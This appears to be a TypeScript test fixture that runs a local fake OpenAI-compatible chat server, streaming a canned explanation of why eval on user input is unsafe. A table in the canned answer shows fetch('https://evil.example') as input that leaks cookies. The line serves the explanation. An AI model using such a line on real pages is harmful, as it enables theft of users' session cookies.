import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

const THOUGHTS = 'The input is passed on to eval, so whoever writes it decides what runs. I should say what that means, and show the usual way out.';

const ANSWER = `**No.** \`eval\` runs whatever it is given, with all that your page may do.

| what comes in | what happens |
|---|---|
| \`1 + 1\` | 2, as you meant it |
| \`fetch('https://evil.example')\` | it leaves, with your cookies |

If you expect numbers, say so:

\`\`\`js
const total = Number(userInput);
if (!Number.isFinite(total)) throw new TypeError('Not a number');
output.textContent = String(total);
\`\`\`

1. \`Number\` reads a number and nothing else.
2. \`textContent\` shows text as text, so that nothing in it becomes a part of the page.

More about it: [the same-origin policy](https://developer.mozilla.org/docs/Web/Security/Same-origin_policy).`;

/** A model that always says the same, word by word, as an OpenAI-compatible service does. */
export async function startModel(wordDelayMs: number): Promise<{ readonly url: string; stop(): void }> {
  const server = createServer((request, response) => void answer(request, response, wordDelayMs));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`, stop: () => void (server.closeAllConnections(), server.close()) };
}

async function answer(request: IncomingMessage, response: ServerResponse, wordDelayMs: number): Promise<void> {
  request.resume();
  await once(request, 'end');
  if (!request.url?.endsWith('/chat/completions')) return void response.writeHead(404).end();
  response.writeHead(200, { 'Content-Type': 'text/event-stream' });
  const says = (delta: object, finish_reason: string | null = null) => response.write(`data: ${JSON.stringify({ model: 'example-1', choices: [{ index: 0, delta, finish_reason }] })}\n\n`);
  for (const word of THOUGHTS.match(/\S+\s*/g) ?? []) says({ reasoning_content: word });
  for (const word of ANSWER.match(/\S+\s*/g) ?? []) {
    if (response.destroyed) return;
    says({ content: word });
    await new Promise((resolve) => setTimeout(resolve, wordDelayMs));
  }
  says({}, 'stop');
  response.end('data: [DONE]\n\n');
}
